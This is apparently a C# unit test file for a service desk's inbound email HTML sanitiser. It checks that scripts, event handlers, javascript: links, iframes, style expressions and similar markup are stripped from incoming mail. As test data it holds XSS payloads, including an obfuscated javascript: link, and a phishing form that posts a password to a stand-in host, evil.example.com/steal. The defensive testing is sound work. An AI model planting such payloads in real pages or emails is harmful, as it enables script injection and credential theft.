using Servicenav.ServiceDesk.Mail;

namespace Servicenav.Tests.ServiceDesk.Mail;

public class InboundHtmlSanitisingTests
{
    private static ParsedMail HtmlOnly(string html) => Eml.Parsed(Eml.Utf8($"""
        From: angripare@example.com
        To: kundtjanst@servicenav.example.se
        Subject: Faktura
        MIME-Version: 1.0
        Content-Type: text/html; charset=utf-8

        {html}
        """));

    [Fact]
    public void HostileHtml_LosesScriptsHandlersJavascriptLinksIframesAndForms()
    {
        var mail = HtmlOnly("""
            <p onclick="steal()">Hej <b>där</b></p>
            <script>alert('x')</script>
            <img src="x.png" onerror="alert(1)">
            <a href="javascript:alert(1)">klicka</a>
            <a href="JaVaScRiPt&#58;alert(2)">klicka igen</a>
            <iframe src="https://evil.example.com/login"></iframe>
            <form action="https://evil.example.com/steal"><input name="password"><button>Logga in</button></form>
            <object data="evil.swf"></object><embed src="evil.swf">
            <svg><script>alert(3)</script></svg>
            <meta http-equiv="refresh" content="0;url=https://evil.example.com">
            <base href="https://evil.example.com/">
            """);

        var html = mail.HtmlBody.ShouldNotBeNull();
        html.ShouldContain("Hej <b>där</b>");
        foreach (var bad in new[] { "<script", "alert", "onclick", "onerror", "javascript", "<iframe", "<form", "<input", "<button", "<object", "<embed", "<svg", "<meta", "<base", "evil.example.com" })
        {
            html.ShouldNotContain(bad, Case.Insensitive);
        }
    }

    [Fact]
    public void StyleExpressions_AreRemovedAndHarmlessStylesStay()
    {
        var mail = HtmlOnly("""<div style="width: expression(alert(1)); color: red">röd</div><div style="background: url('javascript:alert(1)')">x</div>""");

        var html = mail.HtmlBody.ShouldNotBeNull();
        html.ShouldNotContain("expression", Case.Insensitive);
        html.ShouldNotContain("javascript", Case.Insensitive);
        html.ShouldContain("color");
        html.ShouldContain("röd");
    }

    [Fact]
    public void InlineImageAndMailtoAndTelLinks_SurviveSanitising()
    {
        var mail = HtmlOnly("""<img src="cid:image001.png@01DA7A2B.3C4D5E60" alt="bild"><a href="mailto:anna@example.se">Anna</a><a href="tel:0812345678">ring</a><a href="https://example.se/">länk</a>""");

        var html = mail.HtmlBody.ShouldNotBeNull();
        html.ShouldContain("src=\"cid:image001.png@01DA7A2B.3C4D5E60\"");
        html.ShouldContain("href=\"mailto:anna@example.se\"");
        html.ShouldContain("href=\"tel:0812345678\"");
        html.ShouldContain("href=\"https://example.se/\"");
    }

    [Fact]
    public void HtmlOnlyMessage_GetsItsTextFromTheHtmlWithoutScriptOrStyle()
    {
        var mail = HtmlOnly("""
            <html><head><title>Rubrik</title><style>p { color: red }</style></head>
            <body><p>Hej,</p><p>skrivaren&nbsp;är   trasig.<br>Rum 3.14</p><ul><li>ett</li><li>två</li></ul>
            <script>alert('x')</script><table><tr><td>A</td><td>B</td></tr></table></body></html>
            """);

        mail.TextBody.ShouldBe("Hej,\n\nskrivaren är trasig.\nRum 3.14\n\n- ett\n- två\n\nA B");
    }

    [Fact]
    public void DeeplyNestedHtml_IsNotSanitisedButItsTextIsKept()
    {
        var nested = string.Concat(Enumerable.Repeat("<div>", 20_000)) + "djupt" + string.Concat(Enumerable.Repeat("</div>", 20_000));

        var mail = HtmlOnly(nested);

        mail.HtmlBody.ShouldBeNull();
        mail.TextBody.ShouldBe("djupt");
        mail.Warnings.ShouldContain(w => w.Code == MailWarningCode.HtmlNotSanitised);
    }

    [Fact]
    public void HtmlOverTheSizeLimit_IsNotSanitisedButItsTextIsKept()
    {
        var mail = Eml.Parsed(Eml.Utf8("""
            From: anna@example.se
            Content-Type: text/html; charset=utf-8

            <p>Långt brev</p>
            """), MailLimits.Default with { MaxHtmlChars = 10 });

        mail.HtmlBody.ShouldBeNull();
        mail.TextBody.ShouldBe("Långt brev");
        mail.Warnings.ShouldContain(w => w.Code == MailWarningCode.HtmlNotSanitised);
    }
}
